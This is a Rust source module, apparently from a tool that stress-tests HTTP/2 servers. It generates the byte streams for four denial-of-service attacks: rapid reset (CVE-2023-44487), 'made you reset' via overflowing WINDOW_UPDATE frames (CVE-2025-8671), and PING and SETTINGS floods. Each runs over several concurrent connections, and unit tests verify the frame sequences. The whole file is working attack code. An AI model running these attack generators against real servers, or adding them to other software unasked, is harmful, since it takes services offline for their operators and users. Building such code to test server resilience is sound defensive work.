//! The bytes that an attacker sends repeatedly (pure).

use crate::wire::frames::{
    CANCEL, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    get_block, write_frame, write_settings,
};

/// How many connections attack at the same time.
pub(crate) const CONNECTIONS: usize = 4;

/// How many requests one connection sends at most, even if the attack has time left.
const MAX_REQUESTS: u64 = 200_000;

/// How many PINGs or SETTINGS one connection sends at most. They are smaller than requests and cost
/// the server less.
const MAX_SMALL_FRAMES: u64 = 5_000_000;

/// The path that the attackers request.
const PATH: &str = "/plaintext";

/// How many PINGs or SETTINGS are written at once.
const FRAMES_AT_ONCE: usize = 256;

/// The largest increment of a window. It makes any window overflow.
const WIDEST: u32 = 0x7FFF_FFFF;

/// The last number of a client's stream, which are odd. After it the connection cannot open
/// streams.
const LAST_STREAM: u32 = 0x7FFF_FFFF;

/// A way to attack.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Attack {
    /// This many requests, and then a reset of each ("rapid reset", CVE-2023-44487).
    Resets(usize),
    /// This many requests, and then a WINDOW_UPDATE for each that makes the server reset it ("made
    /// you reset", CVE-2025-8671).
    ErrorResets(usize),
    /// PINGs whose acknowledgements nobody reads (CVE-2019-9512).
    Pings,
    /// SETTINGS whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
}

impl Attack {
    /// Whether the attacker reads the server's frames, which it then drops.
    pub(crate) fn reads(self) -> bool {
        matches!(self, Self::Resets(_) | Self::ErrorResets(_))
    }

    /// How many requests, PINGs or SETTINGS one connection sends at most.
    pub(crate) fn max_sent(self) -> u64 {
        match self {
            Self::Resets(_) | Self::ErrorResets(_) => MAX_REQUESTS,
            Self::Pings | Self::Settings => MAX_SMALL_FRAMES,
        }
    }

    /// How many requests, PINGs or SETTINGS one block has.
    pub(crate) fn block_size(self) -> usize {
        match self {
            Self::Resets(requests) | Self::ErrorResets(requests) => requests,
            Self::Pings | Self::Settings => FRAMES_AT_ONCE,
        }
    }
}

/// The blocks of one attacking connection, in order.
#[derive(Debug)]
pub(crate) struct Blocks {
    attack: Attack,
    request: Vec<u8>,
    next_stream: u32,
}

impl Blocks {
    /// Writes the beginning of the connection into `to`: the preface and the SETTINGS.
    pub(crate) fn begin(attack: Attack, to: &mut Vec<u8>) -> Self {
        to.extend_from_slice(PREFACE);
        write_settings(to, &[]);
        Self { attack, request: get_block(PATH), next_stream: 1 }
    }

    /// Writes the next block into `to`. Returns false when the connection has no stream numbers
    /// left.
    pub(crate) fn write(&mut self, to: &mut Vec<u8>) -> bool {
        match self.attack {
            Attack::Resets(requests) => {
                let flags = END_HEADERS | END_STREAM;
                self.requests(to, requests, flags, RST_STREAM, CANCEL)
            }
            // The request stays open, so its stream has a window that can overflow.
            Attack::ErrorResets(requests) => {
                self.requests(to, requests, END_HEADERS, WINDOW_UPDATE, WIDEST)
            }
            Attack::Pings => {
                for number in 0..FRAMES_AT_ONCE as u64 {
                    write_frame(to, PING, 0, 0, &number.to_be_bytes());
                }
                true
            }
            Attack::Settings => {
                for _ in 0..FRAMES_AT_ONCE {
                    write_frame(to, SETTINGS, 0, 0, &[]);
                }
                true
            }
        }
    }

    /// Writes requests, and then for each of them a frame of the kind `then` with the number in it.
    fn requests(
        &mut self,
        to: &mut Vec<u8>,
        count: usize,
        flags: u8,
        then: u8,
        number: u32,
    ) -> bool {
        let streams = || (self.next_stream..=LAST_STREAM).step_by(2).take(count);
        if streams().count() < count {
            return false;
        }
        for stream in streams() {
            write_frame(to, HEADERS, flags, stream, &self.request);
        }
        for stream in streams() {
            write_frame(to, then, 0, stream, &number.to_be_bytes());
        }
        self.next_stream += 2 * count as u32;
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::frames::{Frame, Frames};

    /// The frames of two blocks, after the preface and the SETTINGS.
    fn two_blocks(attack: Attack) -> Vec<(u8, u8, u32)> {
        let mut wire = Vec::new();
        let mut blocks = Blocks::begin(attack, &mut wire);
        assert!(blocks.write(&mut wire) && blocks.write(&mut wire));
        let wire = wire.strip_prefix(PREFACE).expect("the preface");
        let mut seen = Vec::new();
        let on_frame = |frame: Frame<'_>| seen.push((frame.kind, frame.flags, frame.stream));
        Frames::default().feed(wire, on_frame).expect("frames of ours");
        assert_eq!(seen.remove(0), (SETTINGS, 0, 0));
        seen
    }

    #[test]
    fn requests_come_before_their_resets_and_no_stream_comes_again() {
        let (request, reset) = (END_HEADERS | END_STREAM, 0);
        let expected = [
            (HEADERS, request, 1),
            (HEADERS, request, 3),
            (RST_STREAM, reset, 1),
            (RST_STREAM, reset, 3),
            (HEADERS, request, 5),
            (HEADERS, request, 7),
            (RST_STREAM, reset, 5),
            (RST_STREAM, reset, 7),
        ];
        assert_eq!(two_blocks(Attack::Resets(2)), expected);
    }

    #[test]
    fn a_request_that_the_server_is_to_reset_is_still_open() {
        let expected = [
            (HEADERS, END_HEADERS, 1),
            (WINDOW_UPDATE, 0, 1),
            (HEADERS, END_HEADERS, 3),
            (WINDOW_UPDATE, 0, 3),
        ];
        assert_eq!(two_blocks(Attack::ErrorResets(1)), expected);
    }

    #[test]
    fn pings_and_settings_want_an_acknowledgement() {
        for (attack, kind) in [(Attack::Pings, PING), (Attack::Settings, SETTINGS)] {
            assert_eq!(two_blocks(attack), vec![(kind, 0, 0); 2 * FRAMES_AT_ONCE]);
        }
    }

    #[test]
    fn a_connection_without_stream_numbers_is_over() {
        let mut blocks = Blocks::begin(Attack::Resets(2), &mut Vec::new());
        blocks.next_stream = LAST_STREAM - 2;
        let mut wire = Vec::new();
        assert!(blocks.write(&mut wire));
        assert!(!blocks.write(&mut wire));
    }
}
